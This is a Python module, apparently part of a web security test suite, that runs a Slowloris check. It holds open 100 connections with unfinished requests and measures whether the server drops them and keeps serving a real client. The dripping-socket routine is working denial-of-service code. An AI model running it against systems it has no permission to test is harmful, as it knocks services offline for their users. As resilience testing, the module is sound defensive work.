"""Slowloris: clients that never finish a request."""

import socket
import time

from ..attack import Attack
from ..attacker import Attacker
from ..verdict import Verdict, held, not_applicable, succeeded

LONGEST = 15
"""Seconds within which the server should close an unfinished request."""

CLIENTS = 100
BEGINNINGS = (
    b"",
    b"GET /login HTTP/1.1\r\nHost: x\r\nX-Slow: ",
    b"POST /api/login HTTP/1.1\r\nX: ",
)


def _run(attacker: Attacker) -> Verdict:
    target = attacker.target
    if target.client.address.scheme != "http":
        return not_applicable("The slow clients speak no TLS.")
    login = target.log_in()
    place = (target.client.address.ip, target.client.address.port)
    opened = [socket.create_connection(place, LONGEST) for _ in range(CLIENTS)]
    began, slow = time.monotonic(), opened
    try:
        for at, each in enumerate(slow):
            each.sendall(BEGINNINGS[at % len(BEGINNINGS)])
        while slow and time.monotonic() - began < LONGEST:
            asked = time.monotonic()
            if target.me(login).status != 200:
                raise AssertionError("an honest client was refused")
            if time.monotonic() - asked > 2:
                return succeeded("An honest client waited more than two seconds.")
            slow = [each for each in slow if _drips(each)]
            time.sleep(0.5)
    finally:
        for each in opened:
            each.close()
    if slow:
        return succeeded(f"{len(slow)} unfinished requests stayed open for {LONGEST} seconds.")
    seconds = time.monotonic() - began
    return held(f"{CLIENTS} unfinished requests were cut off within {seconds:.0f} seconds.")


def _drips(client: socket.socket) -> bool:
    """Send one more byte.  Returns whether the connection is still open."""
    client.setblocking(False)
    try:
        client.send(b"x")
        return bool(client.recv(1))
    except BlockingIOError:
        return True
    except OSError:
        return False


ATTACK = Attack(
    id="slow-heads",
    title="Slowloris: requests that are never finished",
    story="An attacker opens connections and sends a byte now and then."
    " A server that waits for the rest keeps each of them open."
    " Soon it has no room for anybody else.",
    references=("CWE-400", "ASVS V15.2.2"),
    defences=("the time for a head is limited",),
    run=_run,
    slow=True,
    ours=True,
)
